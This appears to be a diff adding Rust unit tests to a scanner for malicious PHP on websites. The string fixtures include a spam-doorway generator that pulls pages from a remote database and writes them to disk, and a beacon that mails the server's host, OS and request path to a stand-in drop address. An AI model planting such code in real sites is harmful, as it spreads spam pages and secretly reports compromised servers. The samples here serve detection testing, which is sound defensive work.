@@ -24,6 +24,22 @@ fn a_page_fetched_from_another_site_by_this_sites_name_is_a_doorway() {
 }
 
 #[test]
+fn pages_written_from_another_servers_database_by_this_sites_name_are_a_doorway() {
+    let src = "<?php $db = mysql_connect('db7.example.net', 'u', 'p'); mysql_select_db('pages', $db);\n\
+               $q = mysql_query('select * from ' . str_replace('.', '_', $_SERVER['SERVER_NAME']));\n\
+               while ($r = mysql_fetch_array($q)) { @mkdir($r['slug']); \
+               file_put_contents($r['slug'] . '/index.html', $r['html']); }";
+    assert_eq!(found(src), [Why::SpamDoorway]);
+    // The site's own database on this server: a multi-site cache writing its pages.
+    let local = src.replace("db7.example.net", "localhost");
+    assert!(found(&local).is_empty());
+    // Another server's database read by the site's name, nothing written (a shared login).
+    let lookup = "<?php $db = mysqli_connect('db.example.net', 'u', 'p', 'sites');\n\
+                  $r = mysqli_query($db, \"select * from sites where host='\" . $_SERVER['HTTP_HOST'] . \"'\");";
+    assert!(found(lookup).is_empty());
+}
+
+#[test]
 fn own_pages_licence_checks_and_feeds_are_not_doorways() {
     // A cache fetching the site's own page.
     let cache = "<?php $p = file_get_contents('http://' . $_SERVER['HTTP_HOST'] . '/index.php'); echo $p;";
@@ -47,6 +63,9 @@ fn server_facts_mailed_by_a_script_no_visitor_drives_are_a_beacon() {
                   $where = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n\
                   mail('drop@example.com', 'new', \"$who $os $where\");";
     assert_eq!(found(beacon), [Why::ReportsItsLocation]);
+    // The same in a script that also reads a form (the beacon mails none of it).
+    let with_form = format!("{beacon}\n$note = $_POST['note'];");
+    assert_eq!(found(&with_form), [Why::ReportsItsLocation]);
 }
 
 #[test]
